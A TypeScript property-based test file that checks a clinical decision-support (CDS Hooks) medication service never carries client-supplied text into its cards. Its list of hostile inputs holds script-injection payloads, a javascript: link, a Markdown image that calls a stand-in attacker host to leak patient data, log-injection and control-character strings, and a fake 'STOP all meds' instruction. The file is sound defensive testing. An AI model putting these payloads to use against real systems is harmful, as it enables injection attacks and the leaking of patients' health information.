/** Text of a client, wherever it stands in a call, reaches no text of a card: neither as Markdown nor as HTML nor as a link. */

import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import supertest from 'supertest';
import type { Card } from '../../src/cdshooks/protocol.js';
import { serviceOfTheFrozenDay } from '../support/calls.js';
import { type Call, calls, textsIn, withText, wordsOf } from './texts.js';

const app = serviceOfTheFrozenDay();
/** Fragments by which each is recognised in whatever it was turned into. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/?p=PHI)',
  'see https://evil.example/autolink',
  '<https://evil.example/angle>',
  '| evil | table |',
  '# EVIL HEADING',
  '```evil fence```',
  '<!-- evil comment',
  '<style>*{evil:1}</style>',
  '<details open>evil</details>',
  '&lt;script&gt;evil',
  'evil\u202Egnihtemos',
  'evil\u200Bjoin',
  'evil\u0000nul',
  'evil\ud800half',
  `evil${'A'.repeat(10_000)}`,
  'ok\n\n**STOP all evil meds**',
  'evil\r\n{"level":"info"}',
  'evil\u001b[2J',
];
const marks = /evil|javascript:|onerror|<|STOP all/i;

async function cardsOf(call: Call): Promise<readonly Card[]> {
  const answer = await supertest(app).post(`/cds-services/rx-distinct-${call.hook}`).send(call);
  expect(answer.status).toBeLessThan(500);
  return (answer.body as { cards?: readonly Card[] }).cards ?? [];
}

/** One call after the other: many at once may be turned away, which is another test's subject. */
async function cardsOfAll(many: readonly Call[]): Promise<readonly Card[]> {
  const cards: Card[] = [];
  for (const call of many) cards.push(...(await cardsOf(call)));
  return cards;
}

/** Own wording never has these: angle brackets only as comparisons. */
const hostileWords = (cards: readonly Card[]) =>
  cards.map(wordsOf).filter((words) => marks.test(words.replaceAll(/ [<>]=? \d/g, '')));

describe('a hostile text', () => {
  test('in the place of any one text of a call reaches no card', async () => {
    const places = calls.flatMap((call) => textsIn(call).map((path) => ({ call, path })));
    expect(places.length).toBeGreaterThan(1_500);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...places),
        fc.constantFrom(...hostile),
        async ({ call, path }, text) => {
          expect(hostileWords(await cardsOf(withText(call, path, () => text) as Call))).toEqual([]);
        },
      ),
      { numRuns: 500 },
    );
  });

  test.each(hostile)('behind every text of a call reaches no card: %j', async (text) => {
    for (const call of calls.slice(0, 24)) {
      const whole = textsIn(call)
        .filter((path) =>
          /^(text|display|note|unit|family|given|comment|patientInstruction|div|value|label)$/.test(
            String(path.at(-1)),
          ),
        )
        .reduce((one: unknown, path) => withText(one, path, (before) => `${before} ${text}`), call);
      expect(hostileWords(await cardsOf(whole as Call))).toEqual([]);
    }
  });

  test.each(hostile)('beside what a card is about reaches no card: %j', async (text) => {
    const call = structuredClone(calls.find(({ hook }) => hook === 'order-sign')) as unknown as {
      context: { draftOrders: { entry: { resource: object }[] } };
      prefetch: { medications: { entry: { resource: object }[] } };
    } & Call;
    const dressed = {
      note: [{ text }],
      extension: [{ url: text, valueString: text }],
      text: { status: 'generated', div: text },
    };
    for (const { resource } of [
      ...call.context.draftOrders.entry,
      ...(call.prefetch?.medications?.entry ?? []),
    ]) {
      Object.assign(resource, dressed, { dosageInstruction: [{ text, patientInstruction: text }] });
    }
    const cards = await cardsOf(call);
    expect(hostileWords(cards)).toEqual([]);
  });
});

test.each(hostile)('would be seen in a card: %j', async (text) => {
  const [card] = await cardsOfAll(calls.slice(0, 5));
  expect(hostileWords([{ ...card!, detail: `${card!.detail} ${text}` }])).toHaveLength(1);
});

test('every summary has less than 140 characters, whatever comes', async () => {
  const cards = await cardsOfAll(calls);
  expect(cards.length).toBeGreaterThan(40);
  expect(cards.filter(({ summary }) => summary.length >= 140)).toEqual([]);
});
